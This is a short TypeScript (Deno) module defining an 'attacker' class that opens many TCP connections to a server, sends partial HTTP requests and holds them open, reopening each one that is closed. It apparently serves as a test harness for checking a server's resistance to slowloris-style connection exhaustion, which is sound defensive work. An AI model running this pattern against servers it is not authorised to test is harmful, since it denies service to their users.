/** An attacker without a token who holds as many connections as possible. */

/** The bytes it sends on a connection before it goes silent. */
const BEGINNINGS: readonly string[] = [
  "",
  "GET / HTTP/1.1\r\nhost: ",
  "GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n",
  "POST / HTTP/1.1\r\nhost: x\r\ncontent-length: 1000000\r\n\r\nx",
];
/**
 * Pause between a closed connection and the next, in ms. It holds connections; flooding a machine
 * with new ones is another attack, which a process cannot prevent.
 */
const PAUSE_MS = 1_000;

/** Keeps connections open, and replaces each that is closed. */
export class Stranger implements AsyncDisposable {
  readonly #address: Deno.ConnectOptions;
  readonly #open = new Set<Deno.Conn>();
  readonly #holding: Promise<void>[];
  #lost = 0;
  #isOver = false;

  constructor(address: string, count: number, beginnings = BEGINNINGS) {
    const { hostname, port } = new URL(address);
    this.#address = { hostname, port: Number(port) };
    this.#holding = Array.from(
      { length: count },
      (_, i) => this.#hold(beginnings[i % beginnings.length]!),
    );
  }

  /** Connections that the other side closed. */
  get lost(): number {
    return this.#lost;
  }

  async #hold(text: string): Promise<void> {
    const beginning = new TextEncoder().encode(text);
    while (!this.#isOver) {
      await this.#once(beginning).catch(() => {});
      this.#lost++;
      await new Promise((resolve) => setTimeout(resolve, PAUSE_MS));
    }
  }

  async #once(beginning: Uint8Array): Promise<void> {
    const bytes = new Uint8Array(1_024);
    const conn = await Deno.connect(this.#address);
    this.#open.add(conn);
    try {
      await conn.write(beginning);
      while (!this.#isOver && await conn.read(bytes) !== null);
    } finally {
      this.#open.delete(conn);
      conn.close();
    }
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#isOver = true;
    // It unblocks a waiting read.
    for (const conn of this.#open) await conn.closeWrite().catch(() => {});
    await Promise.all(this.#holding);
  }
}
